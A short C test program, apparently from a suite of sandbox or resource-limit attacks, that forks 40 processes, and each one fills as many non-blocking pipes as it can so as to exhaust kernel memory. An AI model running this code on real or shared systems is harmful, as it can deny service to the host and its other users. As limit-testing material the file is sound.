/* The kernel's memory instead of one's own: many pipes, filled, in many processes. */
#include "attack.h"

#include <fcntl.h>
#include <sys/wait.h>

static void fill(void)
{
	static char piece[1 << 16];
	int ends[2];

	while (pipe2(ends, O_NONBLOCK) == 0)
		while (write(ends[1], piece, sizeof piece) > 0)
			continue;
	sleep(2);
	_exit(0);
}

int main(void)
{
	for (int child = 0; child < 40; child++)
		if (fork() == 0)
			fill();
	while (wait(NULL) > 0)
		continue;
	held();
}
